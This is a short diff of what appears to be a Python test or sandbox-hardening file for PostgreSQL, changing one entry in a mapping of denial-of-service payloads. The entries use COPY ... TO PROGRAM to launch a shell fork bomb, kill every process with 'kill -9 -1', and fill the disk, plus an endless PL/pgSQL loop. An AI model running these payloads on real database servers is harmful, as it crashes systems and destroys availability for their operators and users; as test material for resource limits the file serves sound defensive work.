@@ -191,7 +191,7 @@ ENTRY: Final[Mapping[str, str]] = {
 
 BOMBS: Final[Mapping[str, str]] = {
     "fork-bomb": "COPY (SELECT 1) TO PROGRAM 'printf ''#!/bin/sh\\nb() { b | b & }; b; sleep 60\\n'' > bomb; sh bomb; "
-    "sleep 60'; SELECT pg_sleep(60)",
+    "exec sleep 60'; SELECT pg_sleep(60)",
     "endless": "DO $$ BEGIN LOOP END LOOP; END $$",
     "kill-all": "COPY (SELECT 1) TO PROGRAM 'kill -9 -1'",
     "disk-bomb": "COPY (SELECT 1) TO PROGRAM 'cd ..; (while :; do n=$((n + 1)); head -c 20M /dev/zero > bomb$n "
